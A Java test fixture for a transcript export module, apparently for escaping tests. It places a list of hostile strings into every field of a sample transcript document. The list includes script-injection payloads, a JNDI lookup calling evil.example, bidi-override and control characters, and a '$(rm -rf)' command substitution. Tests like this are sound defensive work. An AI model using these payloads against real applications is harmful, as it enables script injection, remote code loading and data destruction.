package io.transcriptroutes.export;

import com.fasterxml.jackson.databind.node.ObjectNode;
import java.util.ArrayList;
import java.util.List;

/** Texts that want to be more than text. */
final class Hostile {

    static final List<String> TEXTS = List.of(
            "<script>alert(1)</script>", "</style><style>*{display:none}</style>", "</title><h1>mine</h1>",
            "</script><script>alert(2)</script>",
            "\"onmouseover=\"alert(3)", "' onfocus='alert(4)' autofocus='", "--> 00:00:01.000 --> 00:00:02.000", "<!-- comment -->",
            "]]></svg><img src=x onerror=alert(5)>",
            "{{title}} {{{style}}} {{>tree.html}}", "${bodyAs(String)} #{1+1} ${jndi:ldap://evil.example/a}",
            "first\n\nsecond\r\n\r\nNOTE third\n7\n00:00:00,000 --> 00:00:09,000",
            "\u202Eevil\u202C \u2066isolated \u2067too", "nul\u0000bell\u0007escape\u001b[31mred\u009b2J",
            "lone \uD800 and \uDC00 surrogates", "emoji 👩‍👩‍👧 🏴‍☠️",
            "javascript:alert(6)", "https://evil.example/track.gif", "&lt;b&gt; &amp;amp; &#x3C;script&#x3E;",
            "<v Fake>text</v> {\\an8}<font size=90>",
            "\uFFFE\uFFFF\uFEFF\u2028line\u2029paragraph\u0085next",
            "<a href=\"https://evil.example/\">click</a><iframe src=//evil.example></iframe>",
            "`backtick` = $(rm -rf)", "word".repeat(60));

    private Hostile() {
    }

    /** Each text stands everywhere that data comes from. */
    static TranscriptDocument document() {
        return document(TEXTS);
    }

    /** The same document with each letter and sign an x, but for white space and slashes, which texts are split at. */
    static TranscriptDocument harmless(List<String> texts) {
        return document(texts.stream().map(text -> Texts.cleaned(text).replaceAll("[^\\s/]", "x")).toList());
    }

    static TranscriptDocument document(List<String> texts) {
        List<Sentence> sentences = new ArrayList<>();
        List<OperatorResult> results = new ArrayList<>();
        for (String text : texts) {
            int n = sentences.size();
            sentences.add(new Sentence(n, 1 + n % 2, n * 6, n * 6 + 5, text, 0.5, List.of()));
            ObjectNode raw = SampleDocuments.JSON.createObjectNode().put("predicted_label", text).put("predicted_probability", "0.4");
            raw.putObject("label_probabilities").put(text, 0.4).put("other", "0.6");
            raw.putObject("text_generation_results").put("format", "text").put("result", text + "\n\n" + text);
            raw.putObject("json_results").put(text, text).putArray("list").add(text).addObject().put(text, 1);
            results.add(new OperatorResult(text, text, text, raw));
        }
        String all = String.join(" ", texts);
        List<Speaker> speakers = List.of(new Speaker(1, all, "1" + all, all, all, all, "https://evil.example/picture.png"),
                new Speaker(2, all, "2" + all, all, all, all, all));
        TranscriptDocument.Origin origin = new TranscriptDocument.Origin(all, all, all, all, null, all, 1L, null);
        TranscriptDocument.Transcript transcript = new TranscriptDocument.Transcript(all, all, all, all, all, true,
                SampleDocuments.transcript("en", 1.0).mediaStartTime(), 150.0, null, null);
        return new TranscriptDocument(all, origin, new TranscriptDocument.Audio(all, all, 2, 8000, 150.0, true), transcript,
                speakers, sentences, results, all, SampleDocuments.refund().timings());
    }
}
